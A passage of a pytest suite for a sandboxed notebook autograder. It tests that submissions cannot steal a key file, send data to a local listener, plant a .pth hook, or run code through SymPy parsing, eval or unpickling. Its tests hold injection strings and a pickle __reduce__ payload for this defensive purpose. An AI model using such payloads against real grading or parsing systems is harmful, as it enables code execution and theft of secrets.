    # server takes a user id of its own, named on its command line, when the grader is root)
    ours = f"\0{sandbox.judges_user_id()}\0" if os.geteuid() == 0 else f"\0{os.getpid()}\0"
    assert processes_with(ours) == [] and processes_with("forkserver") == []
    assert os.geteuid() != 0 or grade._processes_of(sandbox.judges_user_id()) == []
    assert blocks["d8-flood.ipynb"].count("\n") < 40


def test_attacks_on_chapter_4(chapters, tmp_path, capsys):
    """Chapter 4: the checks patched (A2), otter's runner patched (A5), an answer equal
    to everything (A7), each on the garbage notebook; the solution scores 8 / 8. And
    S1-S3: the symbolic answers as text in every form a check could meet, text that read
    by SymPy would steal, send, plant, edit and rewrite, and give the right answer:
    ex-04-mean scores 0 and nothing happens."""
    alibi = chapters["04_alibi"]
    secret, marker, pth = tmp_path / "id_ed25519", tmp_path / "marker", tmp_path / "site" / "zz_hook.pth"
    secret.write_text("SECRET-KEY-4321")
    pth.parent.mkdir()
    listener, csv_path = Listener(), tmp_path / "grades.csv"
    victim = tmp_path / "solution.ipynb"
    evil = evil_text(MARKER=marker, SECRET=secret, PORT=listener.port, PTH=pth, VICTIM=victim, CSV=csv_path)
    strings = {name: (alibi.trimmed_solution(after={"ex-04-mean": _with(code, EVIL=evil)}), 5)
               for name, code in (("s1-str.ipynb", S1), ("s2-array-list.ipynb", S2), ("s3-dict-flat.ipynb", S3))}
    made = {"solution.ipynb": (alibi.solution, 8), "garbage.ipynb": (alibi.garbage(), 0),
            "a2-checks.ipynb": (alibi.garbage(A2), 0), "a5-otter.ipynb": (alibi.garbage(A5), 0),
            "a7-equal.ipynb": (alibi.garbage(answers={"ex-04-twelve": "spans12 = np.zeros(12)\n" + A7.split(
                "convert = Same()")[0] + "heads_by_span = Same()"}), 0), **strings}
    files = [_write(tmp_path, name, nb) for name, (nb, _) in made.items()]
    before = _sha(victim)
    status, out = _grade(capsys, alibi.autograder, files, csv_path)
    time.sleep(1)
    assert status == 0, out
    for name, (_, total) in made.items():
        assert f"{name}: {total} / 8" in out, out
    blocks = _blocks(out, list(made))
    for name in strings:
        assert "ex-04-mean                       0 / 3" in blocks[name], blocks[name]
        assert "should be a SymPy expression" in blocks[name], blocks[name]
    assert "it is text. Build it with SymPy" in blocks["s1-str.ipynb"]
    assert not marker.exists() and not pth.exists() and listener.received == [] and _sha(victim) == before
    assert "evil" not in csv_path.read_text() and "SECRET-KEY" not in out


def test_a_sandbox_that_cannot_import_the_package_is_an_error_not_zeros(chapters, tmp_path, capsys, monkeypatch):
    """REVIEW §8.1: when the grading environment is broken (here: the sandbox does not
    show companion, so the chapter's given import cell fails), correct work must not
    score zeros: the submission is an error row that names the failed cell."""
    alibi = chapters["04_alibi"]
    folder = str(sandbox.package_folder("companion"))
    real = sandbox.bwrap_command

    def without_companion(*args, **kwargs):
        command = real(*args, **kwargs)
        at = next(i for i in range(len(command) - 2) if command[i:i + 3] == ["--ro-bind", folder, folder])
        return command[:at] + command[at + 3:]

    monkeypatch.setattr(sandbox, "bwrap_command", without_companion)
    solution = _write(tmp_path, "solution.ipynb", alibi.solution)
    status, out = _grade(capsys, alibi.autograder, [solution], tmp_path / "grades.csv")
    assert status == 1, out
    assert "solution.ipynb: could not grade: not graded: a cell the student did not write failed (code cell" in out
    assert "ModuleNotFoundError" in out or "ImportError" in out, out
    assert "0 / 8" not in out


def test_grading_stops_when_the_autograder_changes(chapters, tmp_path, monkeypatch, capsys):
    """D2 by any other route: if autograder.zip changes while grading (its SHA-256 is
    checked after every submission), the submission is reported and none after it is
    graded with the changed checks."""
    rope = chapters["03_rope"]
    autograder = tmp_path / "autograder.zip"
    autograder.write_bytes(rope.autograder.read_bytes())
    read = grade.intake.read_submission

    def tampering(path, *args):
        with open(autograder, "ab") as handle:
            handle.write(b"\0")
        return read(path, *args)

    monkeypatch.setattr(grade.intake, "read_submission", tampering)
    files = [tmp_path / "one.txt", tmp_path / "two.txt"]
    for path in files:
        path.write_text("x")
    status, out = _grade(capsys, autograder, files, tmp_path / "grades.csv", "--jobs", "1")
    assert status == 1
    assert "one.txt: could not grade: " in out and "changed while grading" in out
    assert "two.txt: could not grade: not graded: " in out


def test_no_sandbox_no_grading(monkeypatch, tmp_path, capsys):
    """Without bubblewrap the grader refuses, and says what to do; it never falls back
    to running submissions unsandboxed on its own."""
    monkeypatch.setattr(sandbox.shutil, "which", lambda name: None)
    monkeypatch.setattr(grade.Autograder, "load", classmethod(lambda cls, path: None))
    status = classroom.main(["autograder.zip", "x.ipynb"])
    err = capsys.readouterr().err
    assert status == 2
    assert "cannot grade: bubblewrap (bwrap) is not installed" in err and "--no-sandbox" in err


def test_judges_start_with_every_module_of_companion_imported():
    """The server that forks the judges imports every module of companion first (and
    NumPy, SymPy and torch with them), so that no judge imports them again for each
    submission: ``import companion`` alone loads none of its modules."""
    import companion

    preload = judge.PRELOAD + judge.modules_to_import_first()
    assert {f"companion.{name}" for name in companion.__all__} <= set(preload) and "bookwork.grading.review" in preload
    assert {"companion.lab.evals", "companion.lab.usage", "companion.figures"} <= set(preload)
    script = ("import importlib, sys\n"
              f"for name in {preload!r}:\n    importlib.import_module(name)\n"
              "print(all(m in sys.modules for m in ('torch', 'sympy', 'numpy')))")
    done = subprocess.run([sys.executable, "-c", script], cwd=ROOT, capture_output=True, text=True)
    assert done.returncode == 0 and done.stdout.strip() == "True", done.stderr


# --- the data between the sandbox and the judge -------------------------------------------------

def test_answers_cross_as_the_same_values():
    """Every kind of answer the chapters ask for comes back equal, of the same type."""
    import numpy as np
    import sympy as sp
    import torch

    from companion import nope, trained_range

    m = sp.Symbol("m", positive=True)
    values = [None, ..., True, 3, 2**80, 0.1, float("inf"), 1 + 2j, "2I", b"x", [1, (2, 3.5)], {10_000: 54.2},
              {1, 2}, np.arange(6).reshape(2, 3), np.float64(1.5), np.int64(3), np.array([True, False]),
              sp.Matrix([[1, m], [sp.Rational(1, 2), 0.5]]), sp.series(1 / (sp.exp(m) - 1), m, 0, 2),
              sp.Function("f")(m), sp.pi * sp.E + sp.I, sp.Piecewise((m, m > 1), (0, True)), sp.exp(-m) / 3,
              nope.ProbeResult(mae=0.5, accuracy=0.25, baseline_mae=2.0, predicted=np.ones((2, 3)))]
    for value in values:
        back = wire.decode(*wire.encode(value))
        assert type(back) is type(value) or isinstance(value, nope.ProbeResult), value
        if isinstance(value, np.ndarray):
            assert np.array_equal(back, value) and back.dtype == value.dtype
        elif isinstance(value, nope.ProbeResult):
            assert back.mae == value.mae and np.array_equal(back.predicted, value.predicted)
        elif value == value:
            assert back == value, value
    tensor = torch.arange(6, dtype=torch.float32).reshape(2, 3)
    assert torch.equal(wire.decode(*wire.encode(tensor)), tensor)
    result = trained_range.extension("ntk", d=128, s=16.0)
    back = wire.decode(*wire.encode(result))
    assert back.n_out == result.n_out and type(back).__name__ == type(result).__name__


@pytest.mark.parametrize("node", [
    {"symbol": "__import__('os').system('touch /tmp/x')"}, {"symbol": "x)(y"}, {"symbol": "a\u202eb"},
    {"applied": "exec(1)", "args": []}, {"function": "f; import os"}, {"head": "sympify", "args": [{"str": "x"}]},
    {"head": "parse_expr", "args": []}, {"head": "Symbol", "args": [{"str": "x"}]}, {"head": "__class__", "args": []},
    {"integer": "12x"}, {"integer": 12}, {"rational": ["1", "0x2"]}, {"float": "1e5", "precision": 10**9},
    {"float": "__import__"}, {"constant": "__builtins__"}, {"class": "print"}, {"matrix": [2, 2], "args": []},
    {"symbol": "x", "assumptions": {"evaluate": True}}, {"symbol": "x", "assumptions": {"positive": "yes"}},
    {"dummy": "d", "index": -1}, {"str": "x'; import os"}, {"t": "sympy"}, "Symbol('x')"])
def test_sympy_data_builds_sympy_and_nothing_else(node):
    """A SymPy tree is rebuilt by calling SymPy's exported classes on SymPy objects:
    a name that is not a plain name, a class SymPy does not export, a number that is not
    digits, an unknown keyword, or text in place of a tree is refused (nothing is parsed)."""
    with pytest.raises(wire.WireError):
        wire.from_sympy_node(node)


def test_the_judge_reads_no_text_as_code(tmp_path):
    """While the judge checks, text never becomes code by any route SymPy offers (an
    operator with a dict of strings, a matrix of strings, N of a string), nor by Python's
    own (eval, exec, compile, ast.parse, pickle), and no process, connection or written
    file is allowed; SymPy's and NumPy's own work (simplify, series, polynomial
    arithmetic, reading .npy files, named tuples) goes on. Each route would create a
    file if it ran."""
    import collections
    import pickle

    import numpy as np
    import sympy as sp

    marker = tmp_path / "ran"
    payload = f"open({str(marker)!r}, 'w') or 1"
    x = sp.Symbol("x")
    routes = {"dict - x": lambda: {"a": payload} - x, "Matrix": lambda: sp.Matrix([payload]),
              "N": lambda: sp.N(payload), "sympify": lambda: sp.sympify(payload), "eval": lambda: eval(payload),
              "exec": lambda: exec(payload), "compile": lambda: compile(payload, "<answer>", "eval"),
              "ast.parse": lambda: ast.parse(payload),
              "pickle": lambda: pickle.loads(pickle.dumps(collections.OrderedDict())),
              "process": lambda: subprocess.run(["true"]),
              "connection": lambda: socket.create_connection(("127.0.0.1", 9)),
              "write": lambda: open(marker, "w")}
    with judge.refusing():
        for name, route in routes.items():
            with pytest.raises(judge.Refused):
                route()
            assert not marker.exists(), name
        assert sp.simplify(sp.sin(x) ** 2 + sp.cos(x) ** 2) == 1
        assert sp.cancel((x ** 2 - 1) / (x - 1)) == x + 1 and sp.series(sp.exp(x), x, 0, 2).removeO() == 1 + x
        buffer = io.BytesIO()
        np.save(buffer, np.arange(3))
        buffer.seek(0)
        assert list(np.load(buffer)) == [0, 1, 2]
        assert collections.namedtuple("Pair", "a b")(1, 2).b == 2
    assert "reading text as code" in judge.refusals
    with judge.trusting():
        assert eval("1 + 1") == 2


def test_arrays_are_never_unpickled(tmp_path):
    """An array of objects (a pickle inside a .npy file) is read as an unreadable
    value: the pickle is never loaded."""
    import numpy as np

    class Payload:
        def __reduce__(self):
            return (open, (str(tmp_path / "unpickled"), "w"))

    buffer = io.BytesIO()
    np.save(buffer, np.array([Payload()], dtype=object), allow_pickle=True)
    value = wire.decode({"t": "ndarray", "blob": 0}, [buffer.getvalue()])
    assert isinstance(value, wire.Unreadable) and not (tmp_path / "unpickled").exists()


def test_malformed_values_and_messages():
    """Malformed nodes become unreadable values; a malformed frame is refused."""
    for node in ({"t": "int", "v": "1" * 5000}, {"t": "float", "v": "__import__"}, {"t": "dict", "v": [1]},
                 {"t": "object", "name": "A", "attrs": [["__class__", {"t": "none"}]]}, {"t": "pickle"}, 7):
        assert isinstance(wire.decode(node, []), wire.Unreadable), node
    read, write = os.pipe()
    os.write(write, (2**62).to_bytes(8, "big"))
    os.close(write)
    with pytest.raises(wire.WireError):
        wire.read_message(read)
    os.close(read)


def test_no_sandbox_runs_a_trusted_notebook(chapters, tmp_path):
    """``--no-sandbox`` (for the instructor's own notebooks) grades the same way, the
    checks still in the judge, only without bubblewrap."""
    alibi = chapters["04_alibi"]
    notebook = _write(tmp_path, "mine.ipynb", alibi.garbage(answers={
        "ex-04-slopes": "from companion import alibi\n\ndef alibi_slopes(n_heads):\n    return alibi.slopes(n_heads)"}))
    graded = classroom.grade_all(alibi.autograder, [notebook], use_sandbox=False)[notebook]
    assert {q: s["score"] for q, s in graded.scores.items()} == {"ex-04-slopes": 3, "ex-04-mean": 0, "ex-04-twelve": 0}


def test_results_must_have_the_autograders_questions_and_points(chapters, tmp_path, monkeypatch):
    """A8c by another route: a result without every question of the autograder, or with
    other points, is an error, not a grade (a missing column once read as 0 / 0)."""
    rope = chapters["03_rope"]
    loaded = grade.Autograder.load(rope.autograder)
    notebook = _write(tmp_path, "any.ipynb", rope.garbage())
    answer = {"questions": {"ex-03-rotate": {"score": 3.0, "possible": 3.0, "output": ""}},
              "events": [], "run_cpu_seconds": 0.0, "judge_cpu_seconds": 0.0}
    monkeypatch.setattr(grade, "run_and_judge", lambda *args: answer)
    monkeypatch.setattr(grade, "review_submission", lambda *args: [])
    with pytest.raises(GradingError, match="not the autograder's"):
        grade.grade(loaded, notebook, judges=None)


def test_an_environment_under_tmp_is_mounted_over_the_scratch_folder(tmp_path, monkeypatch):
    """The sandbox's /tmp is a fresh scratch folder; a checkout or virtual environment that
    lives under /tmp (a clone in /tmp) must be mounted after it, on top, not hidden by it."""
    import shutil

    if shutil.which("bwrap") is None:
        pytest.skip("bubblewrap is not installed")
    venv = Path("/tmp/some-clone/.venv")
    monkeypatch.setattr(sandbox.sys, "prefix", str(venv))
    passwd = tmp_path / "passwd"
    command = sandbox.bwrap_command(tmp_path / "job.json", passwd, sandbox.Limits(), seccomp_fd=99)
    scratch = command.index("--tmpfs")
    assert command[scratch + 1] == "/tmp"
    binds = [i for i, arg in enumerate(command) if arg == "--ro-bind" and command[i + 2].startswith("/tmp/")
             and not command[i + 2].startswith(("/tmp/matplotlib", "/tmp/work", "/tmp/home"))]
    assert str(venv) in [command[i + 2] for i in binds]
    assert all(i > scratch for i in binds), "a mount under /tmp comes before the scratch folder hides it"


def test_the_sandbox_shows_the_packages_it_imports_and_nothing_beside(tmp_path):
    """A run sees companion and the grading package where the grader imports them from,
    with ``bookwork/__init__.py`` above the latter and nothing else of that checkout: not
    the book's other tools, not the tests, not the lessons; and it imports them by name."""
    import shutil

    if shutil.which("bwrap") is None:
        pytest.skip("bubblewrap is not installed")
    job = tmp_path / "job.json"
    job.write_text("{}")
    seccomp_fd = sandbox.seccomp_descriptor()
    try:
        command = sandbox.bwrap_command(job, sandbox.write_accounts(tmp_path, sandbox.user_id(0)), sandbox.Limits(),
                                        seccomp_fd)
        grading = sandbox.package_folder("bookwork.grading")
        listing = (f"ls -A {grading.parent}; echo --; ls -A {grading.parent.parent}; echo --; "
                   f"{sys.executable} -s -c 'import bookwork.grading.runner, companion.checks; print(\"imported\")'")
        probe = command[:command.index(sys.executable)] + ["/bin/sh", "-c", listing]
        done = subprocess.run(probe, capture_output=True, text=True, timeout=120, pass_fds=(seccomp_fd,))
    finally:
        os.close(seccomp_fd)
    assert done.returncode == 0, done.stderr
    bookwork_folder, checkout, imported = done.stdout.split("--\n")
    assert bookwork_folder.split() == ["__init__.py", "grading"]
    assert set(checkout.split()) <= {"bookwork", "companion", ".venv"} and "companion" in checkout.split()
    assert imported.strip() == "imported"
